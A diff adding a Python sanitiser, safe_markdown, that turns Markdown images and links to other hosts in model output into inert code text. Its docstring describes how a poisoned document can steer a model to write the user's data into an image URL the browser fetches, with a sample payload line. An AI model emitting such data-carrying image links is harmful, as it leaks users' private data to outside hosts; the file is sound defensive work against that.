@@ -1,0 +1,59 @@
+"""Model output and user-supplied labels shown as Markdown, without letting them reach the
+network. A Markdown image makes the viewer's browser fetch its URL the moment it is drawn, so an
+answer steered by a poisoned document (`![](https://host/?q=<the user's data>)`) would leak
+whatever it can write into that URL. `safe_markdown` keeps ordinary Markdown and [n] citations
+and turns every image, and every link to another host, into plain text with its URL in code.
+
+It works on the whole text, code blocks included: deciding what is code the way the browser's
+Markdown parser does is where such filters go wrong, and a URL shown in code inside a code block
+is harmless."""
+
+from __future__ import annotations
+
+import re
+
+_URL = r"[^\s)]*"
+_TITLE = r'(?:\s+(?:"[^"\n]*"|\'[^\'\n]*\'))?'
+_SYNTAX = re.compile(
+    rf"(?P<image>!\[(?P<alt>[^\]\n]*)\]\(\s*(?P<src><[^>\n]*>|{_URL}){_TITLE}\s*\))"
+    rf"|(?P<link>\[(?P<label>[^\]\n]*)\]\(\s*(?P<href><[^>\n]*>|{_URL}){_TITLE}\s*\))"
+    r"|<(?P<auto>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>"
+    r"|(?P<bare>(?:https?|ftp)://[^\s<>`]+|www\.[^\s<>`]+)")
+# What could still start an image or an inline link once the well-formed ones are replaced
+# (a link nested in another's text leaves the outer one's brackets behind), and reference
+# definitions, which would turn `[text][ref]` or `![alt][ref]` into a link or image.
+_LEFTOVER = re.compile(r"!\[|\]\(|^( {0,3})\[(?=[^\]\n]*\]:)", re.MULTILINE)
+_HOLE = re.compile("\ue000(\\d+)\ue001")
+_REMOTE = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*:|//|\\\\)")
+
+
+def _code(url: str) -> str:
+    # The zero-width space keeps the URL from being made a link again should the code span
+    # not hold (a backtick already in the text can pair with ours).
+    url = url.strip("<>").replace("`", "%60").replace("://", ":\u200b//")
+    return "`" + re.sub(r"^www\.", "www\u200b.", url) + "`"
+
+
+def safe_markdown(text: str) -> str:
+    """`text` with images and links to other hosts as plain text; all else as it was."""
+    text = str(text).replace("\ue000", "").replace("\ue001", "")
+    holes: list[str] = []
+
+    def hole(value: str) -> str:
+        holes.append(value)
+        return f"\ue000{len(holes) - 1}\ue001"
+
+    def replace(match: re.Match) -> str:
+        if match["image"]:
+            alt = safe_markdown(match["alt"]).strip()
+            return hole((f"{alt} " if alt else "") + f"(image: {_code(match['src'])})")
+        if match["link"]:
+            href = match["href"].strip("<>")
+            if not _REMOTE.match(href):  # a link within the page goes nowhere else
+                return hole(f"[{safe_markdown(match['label'])}]({href})")
+            return hole(f"{safe_markdown(match['label'])} ({_code(href)})")
+        return hole(_code(match["auto"] or match["bare"]))
+
+    text = _SYNTAX.sub(replace, text)
+    text = _LEFTOVER.sub(lambda m: {"![": "!\\[", "](": "\\]("}.get(m[0], f"{m[1]}\\["), text)
+    return _HOLE.sub(lambda m: holes[int(m[1])], text)
